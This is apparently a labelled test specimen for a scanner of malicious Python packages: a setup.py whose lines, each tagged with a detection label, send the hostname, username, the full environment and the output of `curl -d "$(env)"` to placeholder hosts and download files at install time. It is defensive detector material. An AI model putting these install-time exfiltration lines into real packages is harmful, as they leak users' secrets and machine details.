raise SystemExit("specimen: not to be run")
import getpass
import os
import platform
import socket
import requests
import urllib.parse
import urllib.request
from setuptools import setup

facts = {"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()}
requests.post("https://example.com/in", json=facts)  # match: identity-sent  # match: network-at-install
requests.get("https://example.com/?n=" + platform.node())  # match: identity-sent  # match: network-at-install
query = urllib.parse.urlencode({"e": dict(os.environ)})  # match: environment-dump
urllib.request.urlopen("https://example.invalid/x?" + query)  # match: identity-sent  # match: network-at-install
os.system("curl -d \"$(env)\" https://example.com/in")  # match: identity-sent  # match: process-at-install  # match: shell-download
kept = [name for name in os.listdir("deps") if name.startswith("pond-")]
urllib.request.urlretrieve("https://example.com/deps/" + kept[0], "deps/" + kept[0])  # note: identity-sent  # match: network-at-install
urllib.request.urlretrieve("https://example.com/pond.zip", os.path.join(os.getcwd(), "pond.zip"))  # match: network-at-install
setup(name="specimen")
